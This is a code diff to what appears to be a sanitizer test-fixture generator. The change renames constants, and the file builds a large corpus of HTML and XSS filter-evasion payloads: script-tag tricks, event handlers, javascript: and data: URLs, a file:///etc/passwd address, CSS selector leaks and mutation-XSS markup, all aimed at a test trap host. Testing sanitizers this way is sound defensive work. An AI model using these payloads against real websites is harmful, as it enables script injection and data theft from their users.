@@ -1,4 +1,4 @@
-import { type HostileHtml, RAN, TRAP } from "./hostile-payload.ts";
+import { type HostileHtml, RAN_MARKER, TRAP_URL } from "./hostile-payload.ts";
 import { hostileStyles } from "./hostile-styles.ts";
 import { hostileTricks } from "./hostile-tricks.ts";
 
@@ -8,9 +8,9 @@ import { hostileTricks } from "./hostile-tricks.ts";
  * The tricks are those of the public cheat sheets (OWASP XSS filter evasion, PortSwigger, cure53's DOMPurify and
  * HTTPLeaks collections), told in our own words.
  */
-const ENCODED = encodeURIComponent(`<script>${RAN}</script>`);
-const BASE64 = Buffer.from(`<script>${RAN}</script>`).toString("base64");
-const url = (name: string) => `${TRAP}/${name}`;
+const ENCODED = encodeURIComponent(`<script>${RAN_MARKER}</script>`);
+const BASE64 = Buffer.from(`<script>${RAN_MARKER}</script>`).toString("base64");
+const url = (name: string) => `${TRAP_URL}/${name}`;
 
 const HANDLERS = [
   ...[
@@ -61,9 +61,9 @@ const handlers = (): HostileHtml[] =>
     [0, 1, 2].map((turn) => {
       const tag = HANDLED[(at + turn * 3) % HANDLED.length] ?? "p";
       const attribute = [
-        `${handler}="${RAN}"`,
+        `${handler}="${RAN_MARKER}"`,
         `${handler.toUpperCase()}=&#x74;op.ran&#61;1`,
-        `/${handler}='${RAN.replaceAll("'", "`")}'`,
+        `/${handler}='${RAN_MARKER.replaceAll("'", "`")}'`,
       ][turn];
       return {
         name: `${tag} with ${handler}, way ${turn + 1}`,
@@ -74,44 +74,44 @@ const handlers = (): HostileHtml[] =>
 
 const scripts = (): HostileHtml[] =>
   Object.entries({
-    plain: `<script>${RAN}</script>`,
-    "upper case": `<SCRIPT>${RAN}</SCRIPT>`,
-    "a slash for a space": `<script/x>${RAN}</script>`,
-    "within itself": `<scr<script>ipt>${RAN}</scr</script>ipt>`,
-    unclosed: `<script>${RAN}`,
+    plain: `<script>${RAN_MARKER}</script>`,
+    "upper case": `<SCRIPT>${RAN_MARKER}</SCRIPT>`,
+    "a slash for a space": `<script/x>${RAN_MARKER}</script>`,
+    "within itself": `<scr<script>ipt>${RAN_MARKER}</scr</script>ipt>`,
+    unclosed: `<script>${RAN_MARKER}`,
     remote: `<script src="${url("script")}"></script>`,
     "remote without a protocol": `<script src="//trap.daylight.test/script"></script>`,
-    module: `<script type="module">${RAN}</script>`,
+    module: `<script type="module">${RAN_MARKER}</script>`,
     "import map": `<script type="importmap">{"imports":{"a":"${url("importmap")}"}}</script><script type=module>import "a"</script>`,
     speculation: `<script type="speculationrules">{"prefetch":[{"urls":["${url("speculation")}"]}]}</script>`,
-    noscript: `<noscript><p title="</noscript><script>${RAN}</script>"></noscript>`,
-    "in a title": `<title><script>${RAN}</script></title><title>&lt;/title&gt;<script>${RAN}</script>`,
-    "in a comment": `<!--><script>${RAN}</script>--><!--[if true]><script>${RAN}</script><![endif]--><!-- --!><script>${RAN}</script>-->`,
-    "in CDATA": `<![CDATA[<script>${RAN}</script>]]>`,
-    "after a NUL": `<scr\u0000ipt>${RAN}</script>`,
-    "in a template": `<template shadowrootmode="open"><script>${RAN}</script></template>`,
-    "xml stylesheet": `<?xml-stylesheet href="${url("xsl")}"?><script>${RAN}</script>`,
-    "in textarea": `<textarea><script>${RAN}</script></textarea></textarea><script>${RAN}</script>`,
-    xmp: `<xmp><p title="</xmp><script>${RAN}</script>">`,
-    plaintext: `<plaintext><script>${RAN}</script>`,
+    noscript: `<noscript><p title="</noscript><script>${RAN_MARKER}</script>"></noscript>`,
+    "in a title": `<title><script>${RAN_MARKER}</script></title><title>&lt;/title&gt;<script>${RAN_MARKER}</script>`,
+    "in a comment": `<!--><script>${RAN_MARKER}</script>--><!--[if true]><script>${RAN_MARKER}</script><![endif]--><!-- --!><script>${RAN_MARKER}</script>-->`,
+    "in CDATA": `<![CDATA[<script>${RAN_MARKER}</script>]]>`,
+    "after a NUL": `<scr\u0000ipt>${RAN_MARKER}</script>`,
+    "in a template": `<template shadowrootmode="open"><script>${RAN_MARKER}</script></template>`,
+    "xml stylesheet": `<?xml-stylesheet href="${url("xsl")}"?><script>${RAN_MARKER}</script>`,
+    "in textarea": `<textarea><script>${RAN_MARKER}</script></textarea></textarea><script>${RAN_MARKER}</script>`,
+    xmp: `<xmp><p title="</xmp><script>${RAN_MARKER}</script>">`,
+    plaintext: `<plaintext><script>${RAN_MARKER}</script>`,
   }).map(([name, html]) => ({ name: `script ${name}`, html }));
 
 const ADDRESSES = [
-  `javascript:${RAN}`,
-  `JaVaScRiPt:${RAN}`,
-  `java\tscript:${RAN}`,
-  `java\nscript:${RAN}`,
-  ` \u0001javascript:${RAN}`,
-  `&#106;avascript&colon;${RAN}`,
+  `javascript:${RAN_MARKER}`,
+  `JaVaScRiPt:${RAN_MARKER}`,
+  `java\tscript:${RAN_MARKER}`,
+  `java\nscript:${RAN_MARKER}`,
+  ` \u0001javascript:${RAN_MARKER}`,
+  `&#106;avascript&colon;${RAN_MARKER}`,
   `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;top.ran=1`,
   `vbscript:msgbox(1)`,
   `data:text/html,${ENCODED}`,
   `data:text/html;base64,${BASE64}`,
-  `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RAN}"/>`).toString("base64")}`,
-  `blob:${TRAP}/x`,
+  `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RAN_MARKER}"/>`).toString("base64")}`,
+  `blob:${TRAP_URL}/x`,
   `file:///etc/passwd`,
-  `view-source:${TRAP}`,
-  `filesystem:${TRAP}/x`,
+  `view-source:${TRAP_URL}`,
+  `filesystem:${TRAP_URL}/x`,
 ];
 
 const addresses = (): HostileHtml[] =>
@@ -120,7 +120,7 @@ const addresses = (): HostileHtml[] =>
       link: `<a href="${address}" id="l">click</a>`,
       image: `<img src="${address}">`,
       "image map": `<img src=x usemap="#m"><map name="m"><area shape="default" href="${address}"></map>`,
-      frame: `<iframe src="${address}"></iframe><frame src="${address}"><frameset onload="${RAN}">`,
+      frame: `<iframe src="${address}"></iframe><frame src="${address}"><frameset onload="${RAN_MARKER}">`,
       object: `<object data="${address}"></object><embed src="${address}"><applet code="${address}"></applet>`,
       form: `<form action="${address}"><button formaction="${address}">send</button><input type=image src="${address}"></form>`,
       "svg link": `<svg><a xlink:href="${address}"><text y=20>x</text></a><use href="${address}#x"/></svg>`,
@@ -141,12 +141,12 @@ const loads = (): HostileHtml[] =>
     "escaped style": `<style>b\\6fdy{background:\\75rl(${url("escaped")})}</style><p style="background:\\75\\72\\6c(${url("escaped2")})">x`,
     "read by selectors": `<style>input[value^="a"]{background:url(${url("leak-a")})}a[href*="token"]{background:url(${url("leak-token")})}</style><input value="abc"><a href="?token=1">x</a>`,
     "style breaking out": `<style></style/></style><style>*{background:url(${url("out")})}</style>`,
-    "link element": `<link rel="stylesheet" href="${url("link")}"><link rel="prefetch" href="${url("prefetch")}"><link rel="dns-prefetch" href="//trap.daylight.test"><link rel="preconnect" href="${TRAP}"><link rel="icon" href="${url("icon")}"><link rel="modulepreload" href="${url("module")}">`,
-    base: `<base href="${TRAP}/"><img src="base"><a href="x">x</a>`,
+    "link element": `<link rel="stylesheet" href="${url("link")}"><link rel="prefetch" href="${url("prefetch")}"><link rel="dns-prefetch" href="//trap.daylight.test"><link rel="preconnect" href="${TRAP_URL}"><link rel="icon" href="${url("icon")}"><link rel="modulepreload" href="${url("module")}">`,
+    base: `<base href="${TRAP_URL}/"><img src="base"><a href="x">x</a>`,
     "meta refresh": `<meta http-equiv="refresh" content="0;url=${url("refresh")}">`,
     "meta set-cookie": `<meta http-equiv="set-cookie" content="ran=1"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
     video: `<video src="${url("video")}" poster="${url("poster")}" autoplay></video><audio src="${url("audio")}" autoplay></audio><track src="${url("track")}">`,
-    "frame srcdoc": `<iframe srcdoc="<script>${RAN}</script><img src=${url("srcdoc")}>"></iframe>`,
+    "frame srcdoc": `<iframe srcdoc="<script>${RAN_MARKER}</script><img src=${url("srcdoc")}>"></iframe>`,
     object: `<object data="${url("object")}"><param name="movie" value="${url("movie")}"></object><embed src="${url("embed")}">`,
     svg: `<svg><image href="${url("svg-image")}" xlink:href="${url("svg-image2")}"/><use href="${url("use")}#a"/><filter id=f><feImage href="${url("fe")}"/></filter><rect filter="url(${url("filter")}#f)" width=9 height=9 /></svg>`,
     "svg style": `<svg><style>@import '${url("svg-import")}';</style><rect style="fill:url(${url("fill")}#a)"/></svg>`,
@@ -154,16 +154,16 @@ const loads = (): HostileHtml[] =>
     ping: `<a href="https://example.org" ping="${url("ping")}">x</a>`,
     attribution: `<img attributionsrc="${url("attribution")}" src=x>`,
     manifest: `<html manifest="${url("manifest")}">`,
-    "cid that is none": `<img src="cid:../../trap/cid"><img src="cid:%2e%2e/trap"><img src="cid:javascript:${RAN}">`,
+    "cid that is none": `<img src="cid:../../trap/cid"><img src="cid:%2e%2e/trap"><img src="cid:javascript:${RAN_MARKER}">`,
     "data picture that is no picture": `<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${url("data-svg")}'/%3E%3C/svg%3E">`,
-    "custom element": `<x-loader src="${url("custom")}" onconnected="${RAN}"></x-loader><portal src="${url("portal")}"></portal><fencedframe src="${url("fenced")}"></fencedframe>`,
+    "custom element": `<x-loader src="${url("custom")}" onconnected="${RAN_MARKER}"></x-loader><portal src="${url("portal")}"></portal><fencedframe src="${url("fenced")}"></fencedframe>`,
     bgsound: `<bgsound src="${url("bgsound")}"><layer src="${url("layer")}"></layer><ilayer src="${url("ilayer")}"></ilayer>`,
     "content attribute": `<style>p::before{content:url(${url("content")})}p{border-image:url(${url("border")}) 1;mask:url(${url("mask")});shape-outside:url(${url("shape")})}</style><p>x</p>`,
   }).map(([name, html]) => ({ name: `load by ${name}`, html }));
 
 /** Markup that means one thing to a cleaner and another to a browser that reads its output again. */
 const mutations = (): HostileHtml[] => {
-  const inner = `<img src=x onerror="${RAN}">`;
+  const inner = `<img src=x onerror="${RAN_MARKER}">`;
   const titled = `<p title="</style>${inner.replaceAll('"', "&quot;")}">`;
   return [
     `<svg><style><!--</style>${inner}--></svg>`,
@@ -176,7 +176,7 @@ const mutations = (): HostileHtml[] => {
     `<select><style></select>${inner}</style>`,
     `<table><td><style></table>${inner}</style>`,
     `<svg><desc><style>&lt;/style&gt;${inner}</style></desc></svg>`,
-    `<a title="\`\`onmouseover=${RAN.replaceAll('"', "'")}">x</a>`,
+    `<a title="\`\`onmouseover=${RAN_MARKER.replaceAll('"', "'")}">x</a>`,
     `<img alt="\`><img src=x onerror=top.ran=1>">`,
     `<listing>&lt;img src=1 onerror=top.ran=1&gt;</listing>`,
     `<style><style/>${inner}</style>`,
@@ -203,7 +203,7 @@ const covers = (): HostileHtml[] =>
     "a filter bomb": `<style>*{filter:blur(9px);animation:a .001s infinite}@keyframes a{to{transform:rotate(9turn)}}</style>${"<p>x</p>".repeat(20)}`,
     "a name for the top": `<a target="_top" href="https://example.org/top">x</a><a target="_parent" href="https://example.org/parent">y</a><a target="app" href="https://example.org">z</a>`,
     "autofocus and keys": `<input autofocus accesskey="j"><button accesskey="e">x</button><div contenteditable autofocus>y</div>`,
-    "editable whole": `<body contenteditable onfocus="${RAN}">x`,
+    "editable whole": `<body contenteditable onfocus="${RAN_MARKER}">x`,
   }).map(([name, html]) => ({ name: `cover by ${name}`, html }));
 
 /** All of them, in a set order. */
